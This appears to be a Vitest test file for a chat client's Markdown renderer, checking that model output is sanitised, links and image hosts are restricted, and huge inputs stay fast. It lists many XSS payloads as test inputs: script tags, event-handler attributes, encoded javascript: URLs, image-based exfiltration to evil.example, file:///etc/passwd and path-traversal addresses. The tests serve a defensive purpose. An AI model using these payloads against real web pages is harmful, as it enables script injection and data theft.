import type { Entity } from "@openai/chatkit";
import { createElement, type ReactNode } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { afterEach, beforeEach, describe, expect, test, vi } from "vitest";
import { titleIn } from "@/kit/basic/composer/suggestions";
import { type Basic, BasicContext } from "@/kit/basic/context";
import { type Draft, EMPTY, messageOf } from "@/kit/basic/draft";
import { Log } from "@/kit/basic/log";
import { chatkitIcon, Icon } from "@/kit/basic/parts/icons";
import { plainText } from "@/kit/basic/parts/lexer";
import { Markdown, numbered } from "@/kit/basic/parts/markdown";
import { isOwnImage, Picture, SafeLink, safeUrl } from "@/kit/basic/parts/parts";
import type { Annotation, Item, Source } from "@/kit/basic/protocol";
import type { State } from "@/kit/basic/session";
import { en } from "@/kit/words/en";

const DOMAINS = ["images.example"];

function htmlOf(node: ReactNode, state: Partial<State> = {}): string {
  const thread = { id: "thr_1", allowed_image_domains: DOMAINS };
  const session = { state: { thread, feedback: {}, ...state }, subscribe: () => () => {} };
  const basic = { session, options: {}, locale: "en", words: en } as unknown as Basic;
  return renderToStaticMarkup(createElement(BasicContext, { value: basic }, node));
}

/** What Markdown becomes, without what only the style sheet sees. */
function html(text: string, props: { inline?: boolean; annotations?: Annotation[] } = {}): string {
  const all = htmlOf(createElement(Markdown, { text, ...props }));
  return all.replace(/ (?:class|dir)="[^"]*"/g, "").replace(/<svg.*?<\/svg>/g, "");
}

const inline = (text: string) => html(text, { inline: true });

/** What a person reads. */
function read(markup: string): string {
  const marks: Record<string, string> = { lt: "<", gt: ">", quot: '"', "#x27": "'", amp: "&" };
  return markup
    .replace(/<[^>]*>/g, "")
    .replace(/&(lt|gt|quot|#x27|amp);/g, (_, name: string) => marks[name] ?? "");
}

/** The elements and attributes that the Markdown of a model may become. */
const ELEMENTS =
  "a article blockquote br button code del div em figcaption figure h2 h3 h4 h5 h6 hr img input li ol p pre span strong table tbody td th thead tr ul";
const ATTRIBUTES =
  "aria-label alt checked decoding disabled href loading referrerPolicy rel role scope src start style tabindex target title type";

function expectHarmless(markup: string): void {
  for (const [, name = "", attributes = ""] of markup.matchAll(
    /<([^\s>/]+)((?: [^\s=>]+(?:="[^"]*")?)*) ?\/?>/g,
  )) {
    expect(ELEMENTS.split(" ")).toContain(name);
    for (const [, key = "", value = ""] of attributes.matchAll(/ ([^\s=]+)(?:="([^"]*)")?/g)) {
      expect(ATTRIBUTES.split(" ")).toContain(key);
      if (key === "href") expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:)/);
      if (key === "src") expect(value).toMatch(/^(?:https:\/\/images\.example\/|data:image\/png)/);
      if (key === "style") expect(value).toMatch(/^text-align:(?:start|center|end)$/);
    }
  }
  // Each `<` was one of the elements above.
  expect(markup.replace(/<\/?[a-z][a-z0-9]*(?: [^\s=>]+(?:="[^"]*")?)* ?\/?>/g, "")).not.toContain("<");
}

describe("hostile Markdown", () => {
  test.each([
    "<script>alert(1)</script>",
    "text <script src=//evil.example></script>",
    "<img src=x onerror=alert(1)>",
    "a <img src='https://evil.example/?q=secret' />",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<base href='https://evil.example/'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>*{background:url(https://evil.example)}</style>",
    "<p style='position:fixed;inset:0'>over</p>",
    "<a href='javascript:alert(1)'>a</a>",
    "<!-- --><form action=https://evil.example><input name=q>",
    "<div>\n\n**b**\n\n</div><meta http-equiv=refresh content=0>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#x3e;",
    "`<script>alert(1)</script>`",
    "```<img/onerror=x>\n<script>alert(1)</script>\n```",
    '```js" onmouseover="alert(1)\nx\n```',
    '[a](https://a.example/"onmouseover="alert(1))',
    "[a](https://a.example 'x\" onmouseover=\"alert(1)')",
    '![" onerror="alert(1)](https://images.example/a.png)',
    '![a](x" onerror="alert(1))',
    "| a |\n|:-:|\n| <script>alert(1)</script> |",
    "$$<script>alert(1)</script>$$ \\(<img src=x onerror=alert(1)>\\)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "<https://a.example/<script>>",
    "# <u onclick=alert(1)>a",
    "- [x] <input autofocus onfocus=alert(1)>",
  ])("%s", (text) => {
    expectHarmless(html(text));
    expectHarmless(inline(text));
  });

  test.each([
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java&#115;cript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "javascript&colon;alert(1)",
    "java&#10;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#1;javascript:alert(1)",
    "\\javascript:alert(1)",
    "javascript\\:alert(1)",
    "%6Aavascript:alert(1)",
    "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://a.example/1",
    "intent://a#Intent;end",
    "//evil.example/a",
    "/api/chatkit",
    "?thread=thr_2",
    "#top",
    "https://our.bank@evil.example/",
  ])("an address that is not for links: %s", (address) => {
    for (const text of [`[a](${address})`, `[a](<${address}>)`, `<${address}>`, `[a]\n\n[a]: ${address}`]) {
      expect(html(text)).not.toContain("<a ");
    }
    expect(html(`![a](<${address}>)`)).not.toContain("<img");
  });

  test("an image of a foreign host is not loaded, that of a host of the thread is", () => {
    const foreign = html("![secret](https://evil.example/?q=secret)");
    expect(foreign).not.toContain("<img");
    expect(read(foreign)).toBe("Show the image of evil.example");
    expect(html("![a][b]\n\n[b]: https://evil.example/x.png")).not.toContain("<img");
    expect(html("![a](http://images.example/a.png)")).toBe("<div><div><p>a</p></div></div>");
    expect(html("![a *b*](https://cdn.images.example/a.png)")).toMatch(
      /<img .*alt="a b".*referrerPolicy="no-referrer"/,
    );
    expect(html("[![a](https://evil.example/)](https://a.example)")).toMatch(/<a [^>]*>a<\/a>/);
  });

  test("what reads backwards is put straight", () => {
    expect(read(html("[\u202Emoc.knab.ruo](https://evil.example)"))).toBe("moc.knab.ruo");
    expect(read(html("`a \u202E\u2066b`"))).toBe("a b");
    expect(read(html("\u202Eabc &#x202E;d"))).toBe("abc d");
    expect(read(html("\u05D0\u2067abc\u2069"))).toBe("\u05D0\u2067abc\u2069");
  });

  const MANY = 20_000;
  const log = vi.spyOn(console, "error");
  beforeEach(() => void log.mockClear());

  test.each([
    ["quotes", "> ".repeat(MANY)],
    ["quotes without spaces", `${">".repeat(MANY)}a\nb\nc`],
    ["bullets", `${"- ".repeat(1000)}a`],
    ["numbers", "1. ".repeat(MANY)],
    ["quotes and lists", "> - ".repeat(MANY)],
    ["a list of lists", Array.from({ length: 200 }, (_, depth) => `${"  ".repeat(depth)}- a`).join("\n")],
    ["emphasis", "*a ".repeat(1500) + " a*".repeat(1500)],
    ["strong emphasis", "**a ".repeat(1500) + " a**".repeat(1500)],
    ["deletions", "~~a ".repeat(MANY) + " a~~".repeat(MANY)],
    ["images", "![".repeat(MANY) + "](a)".repeat(MANY)],
    ["links", "[".repeat(MANY) + "](a)".repeat(MANY)],
  ])("%s in each other, however deep", (_, text) => {
    const started = performance.now();
    expectHarmless(html(text));
    expect(performance.now() - started).toBeLessThan(5000);
    expect(log).not.toHaveBeenCalled();
  });

  test.each([
    ..."*[_~`<(>&!|#\\$\n\t ",
    ..."**a**, *a*,_a ,~~a~~,[a](,[a](b),![[,<!--,<a ,\\(,\\(a ,$$ ,$$a,&#,http://a.b ,a@b.c ,`a``b```c,- a\n,> a\n,a\n\n,|a|b|\n|-|-|\n,[a]: b\n,&amp;".split(
      ",",
    ),
  ])("a megabyte, and as much as is read, of %j", (piece) => {
    for (const length of [1_000_000, 190_000]) {
      const started = performance.now();
      htmlOf(createElement(Markdown, { text: piece.repeat(length / piece.length) }));
      expect(performance.now() - started).toBeLessThan(10_000);
    }
  });
});

describe("what a model means", () => {
  test.each([
    ["&amp; &lt;b&gt; &quot;q&quot; &copy; &#65;&#x42; &hellip; &alpha;", '& <b> "q" © AB … α'],
    ["5 < 6 > 4, a & b, \"quotes\" and 'more'", "5 < 6 > 4, a & b, \"quotes\" and 'more'"],
    ['`&amp; <b> "q" 5 < 6`', '&amp; <b> "q" 5 < 6'],
    ["\\&amp; \\<b> \\*a\\* \\\\", "&amp; <b> *a* \\"],
    ["&amp;lt; &#38;lt; &unknown; &#0; &#xD800;", "&lt; &lt; &unknown; \ufffd \ufffd"],
    ["**&amp; 5 < 6** *&lt;* ~~&gt;~~", "& 5 < 6 < >"],
    ["[a &amp; b](https://a.example)", "a & b"],
    ["<b>a &lt; b</b>", "<b>a < b</b>"],
    ["<code>&lt; **a**</code>", "<code>< a</code>"],
    ["<https://a.example/?a=1&amp;b>", "https://a.example/?a=1&amp;b"],
    ["snake_case_name 2*3*4", "snake_case_name 234"],
  ])("%s", (text, expected) => expect(read(inline(text))).toBe(expected));

  test.each([
    ["# a &amp; b", "<h2>a &amp; b</h2>"],
    ["###### a", "<h2>a</h2>"],
    ["a\nb  \nc\\\nd", "<p>a\nb<br/>c<br/>d</p>"],
    ["**a *b* ~~c~~ `d`**", "<p><strong>a <em>b</em> <del>c</del> <code>d</code></strong></p>"],
    ["> a\n>\n> > b", "<blockquote><p>a</p><blockquote><p>b</p></blockquote></blockquote>"],
    ["- a\n  1. b\n- c", '<ul><li>a<ol start="1"><li>b</li></ol></li><li>c</li></ul>'],
    ["3. a\n\n4. b", '<ol start="3"><li><p>a</p></li><li><p>b</p></li></ol>'],
    ["---", "<hr/>"],
    ["<p>\na &lt;\n</p>", "<p>&lt;p&gt;\na &amp;lt;\n&lt;/p&gt;</p>"],
    ["a \\(x_1 * y_2 * z\\) b", "<p>a <code>\\(x_1 * y_2 * z\\)</code> b</p>"],
    ["a $$x_1 < &lt;$$", "<p>a <code>$$x_1 &lt; &amp;lt;$$</code></p>"],
    ["\\[\na\n= b\n=\n- c\n\\]", "<p><code>\\[\na\n= b\n=\n- c\n\\]</code></p>"],
    ["It costs $5, or \\$6.", "<p>It costs $5, or $6.</p>"],
  ])("%j", (text, expected) => expect(html(text)).toBe(`<div><div>${expected}</div></div>`));

  test("a task says whether it is done", () => {
    expect(html("- [x] a\n- [ ] b")).toContain(
      '<input type="checkbox" disabled="" aria-label="Done" checked=""/>a',
    );
    expect(html("- [ ] b")).not.toContain("checked");
  });

  test("a table can be scrolled without a mouse", () => {
    const table = html("| a | b |\n|:-:|--:|\n| `x\\|y` | 2 &lt; 3 |");
    expect(table).toContain('<div role="group" aria-label="Table" tabindex="0"><table>');
    expect(table).toContain('<th scope="col" style="text-align:center">a</th>');
    expect(table).toContain('<td style="text-align:center"><code>x|y</code></td>');
    expect(table).toContain('<td style="text-align:end">2 &lt; 3</td>');
  });

  test.each([
    "```js title=a\na &lt; <b>\n\n  c\n```",
    "~~~js\na &lt; <b>\n\n  c\n",
    "```js\na &lt; <b>\n\n  c",
  ])("code, also while it is being written: %j", (text) => {
    expect(html(text)).toContain('<figure aria-label="js"><figcaption><span>js</span><button');
    expect(html(text)).toMatch(/<pre tabindex="0"><code>a &amp;lt; &lt;b&gt;\n\n {2}c<\/code><\/pre>/);
    expect(html(text)).toContain('aria-label="Copy"');
  });

  test("links, with definitions and without brackets", () => {
    const address =
      'href="https://a.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow"';
    expect(html("[a](https://a.example/?a=1&amp;b=2)")).toContain(address);
    expect(html("[a][b]\n\n[b]: https://a.example/?a=1&b=2")).toContain(address);
    expect(html("https://a.example/?a=1&b=2")).toContain(address);
    expect(html("www.a.example")).toContain('href="http://www.a.example/"');
    expect(html("me@a.example")).toContain('href="mailto:me@a.example"');
    expect(html("[a](chatkit-link://open?x=y%20z)")).toContain('<button type="button">a</button>');
  });

  test("a screen reader is told what it says, without its signs", () => {
    const written = [
      "# A *heading* &amp; more",
      "See [this **page**](https://a.example) and ![a bird](https://b.example/x.png).",
      "- [x] done\n- two\n  1. half",
      "> A `quotation`",
      "| a | b |\n|---|---|\n| 1 | **2** |",
      "---",
      "```js\nlet a = 1 < 2;\n```",
      "\\(x_1\\) \\* <b>",
    ];
    expect(plainText(written.join("\n\n")).split("\n")).toEqual([
      "A heading & more",
      "See this page and a bird.",
      "done",
      "two",
      "half",
      "A quotation",
      "a, b",
      "1, 2",
      "let a = 1 < 2;",
      "\\(x_1\\) * <b>",
    ]);
  });

  test("sources have a number each, after the block that refers to them", () => {
    const url = (name: string): Source => ({ type: "url", title: name, url: `https://${name}.example/` });
    const at = (source: Source, index: number | null): Annotation => ({ type: "annotation", source, index });
    const file: Source = { type: "file", title: "Plan", filename: "plan.pdf" };
    const annotations = [
      at(url("a"), 5),
      at(file, null),
      at(url("a"), 12),
      at(url("b"), 12),
      at(url("b"), 13),
    ];
    expect(numbered(annotations).map(({ source, number }) => [number, source.title])).toEqual([
      [1, "a"],
      [2, "Plan"],
      [3, "b"],
    ]);
    const shown = html("First.\r\n\r\nSecond.\n\n- Third.", { annotations });
    expect(read(shown)).toBe("First. 1Second. 1 3Third. 2");
    expect(shown).toContain('aria-label="Source 1: a"');
    const bad: Source = { type: "url", title: "x", url: "javascript:alert(1)" };
    expect(html("a", { annotations: [at(bad, 1)] })).not.toContain("<a ");
  });
});

describe("addresses and images", () => {
  afterEach(() => vi.unstubAllGlobals());

  test("safe addresses", () => {
    expect(safeUrl("HTTPS://a.example/b?c#d")).toBe("https://a.example/b?c#d");
    expect(safeUrl("mailto:a@b.example")).toBe("mailto:a@b.example");
    expect(safeUrl("tel:+41-1")).toBe("tel:+41-1");
    for (const bad of [
      "",
      " https://a.example",
      "java\nscript:a",
      "https://",
      "https://a b",
      "a",
      "\u0000https://a.b",
    ]) {
      expect(safeUrl(bad)).toBeNull();
    }
  });

  type LinkProps = Parameters<typeof SafeLink>[0];

  test("a link that is not safe is text", () => {
    const link = (href: string) => htmlOf(createElement(SafeLink, { href } as LinkProps, "a"));
    expect(link("javascript:alert(1)")).toBe("a");
    expect(link("chatkit-link://")).toBe("a");
  });

  test("own images", () => {
    vi.stubGlobal("location", { origin: "https://chat.example" });
    for (const own of [
      "data:image/png;base64,AA",
      "blob:https://chat.example/1",
      "/api/attachments/atc_1-x",
      "https://chat.example/a.png",
      "/apiary.png",
      "https://images.example/a.png",
      "https://a.b.IMAGES.example/a.png",
    ]) {
      expect([own, isOwnImage(own, DOMAINS)]).toEqual([own, true]);
    }
    for (const foreign of [
      "data:image/svg+xml,<svg/>",
      "data:text/html,a",
      "http://images.example/a.png",
      "https://evilimages.example/a.png",
      "https://images.example.evil.example/a.png",
      "https://images.example@evil.example/a.png",
      "//evil.example/a.png",
      "\\\\evil.example/a.png",
      "/\t/evil.example/a.png",
      "https://evil.example./",
      "javascript:alert(1)",
      // What else of our own server an image could ask for.
      "/api/status",
      "/API/status",
      "https://chat.example/api/backend/orders/1/cancel",
      "/api",
      "//chat.example/api/status",
      "/%61pi/status",
      "/api%2Fstatus",
      "/.//api/status",
      "/%5Capi/status",
      "/api/attachments/../status",
      "/api/attachments/..%2Fstatus",
      "/api/attachments/%2e%2e/status",
      "/api/attachments/",
      "/%zz",
    ]) {
      expect([foreign, isOwnImage(foreign, [...DOMAINS, "", ".", "*."])]).toEqual([foreign, false]);
    }
    // Nobody is asked about these.
    for (const src of ["ftp://a.example/a.png", "/api/status", "https://chat.example/api/status"]) {
      expect(htmlOf(createElement(Picture, { src, alt: "A" }))).toBe("A");
    }
  });

  test("icons", () => {
    expect(chatkitIcon("write-alt")).toBe("pencil");
    expect(chatkitIcon("lucide:search")).toBe("search");
    expect(chatkitIcon("lucide:constructor")).toBe("sparkle");
    expect(chatkitIcon("vendor:x" as "dot")).toBe("dot");
    expect(htmlOf(createElement(Icon, { name: "send" }))).toContain('aria-hidden="true"');
  });
});

test("entities with one title are told apart", () => {
  const ann = (id: string): Entity => ({ id, title: "Ann" });
  const name = (draft: Draft, entity: Entity): Draft => {
    const title = titleIn(draft, entity);
    const tags = [...draft.tags.filter(({ id }) => id !== entity.id), { ...entity, title }];
    return { ...draft, text: `${draft.text}@${title} `, tags };
  };
  const draft = [ann("1"), ann("2"), ann("1"), ann("3"), ann("2")].reduce(name, EMPTY);
  expect(draft.text).toBe("@Ann @Ann (2) @Ann @Ann (3) @Ann (2) ");
  const named = messageOf(draft, undefined).content?.flatMap((part) => ("id" in part ? part.id : []));
  expect(named).toEqual(["1", "2", "1", "3", "2"]);
  // One that was taken out again is in nobody's way.
  expect(titleIn({ ...draft, text: "" }, ann("4"))).toBe("Ann");
});

describe("a conversation", () => {
  const question = (id: string): Item => ({ id, thread_id: "thr_1", type: "user_message", content: [] });
  const log = (items: Item[], isRunning: boolean) =>
    htmlOf(createElement(Log, { isHidden: false }), { items, isRunning, progress: null });

  test.each<[string, (id: string) => Item, string]>([
    [
      "a step",
      (id) => ({
        id,
        thread_id: "thr_1",
        type: "task",
        task: { type: "custom", title: "Reading", status_indicator: "loading" },
      }),
      en.inProgress,
    ],
    [
      "a step of a workflow",
      (id) => ({
        id,
        thread_id: "thr_1",
        type: "workflow",
        workflow: { type: "custom", tasks: [{ type: "image", status_indicator: "loading" }] },
      }),
      en.inProgress,
    ],
    ["an image", (id) => ({ id, thread_id: "thr_1", type: "generated_image" }), "<progress"],
  ])("%s is at work only in the turn that runs", (_, item, sign) => {
    const [stopped, running] = [
      [question("q1"), item("i1")],
      [question("q2"), item("i2")],
    ];
    const times = (html: string) => html.split(sign).length - 1;
    expect(times(log(stopped, true))).toBe(1);
    expect(times(log(stopped, false))).toBe(0);
    expect(times(log([...stopped, question("q2")], true))).toBe(0);
    expect(times(log([...stopped, ...running], true))).toBe(1);
    expect(times(log([...stopped, ...running], false))).toBe(0);
  });

  test("of thousands of items begins with the newest", () => {
    const items = Array.from({ length: 5000 }, (_, index) => question(`q${index}`));
    const drawn = (html: string) => html.split("<article").length - 1;
    expect(drawn(log(items, false))).toBe(200);
    expect(log(items, false)).toContain(en.showEarlier);
    expect(drawn(log(items.slice(-200), false))).toBe(200);
    expect(log(items.slice(-200), false)).not.toContain(en.showEarlier);
  });
});
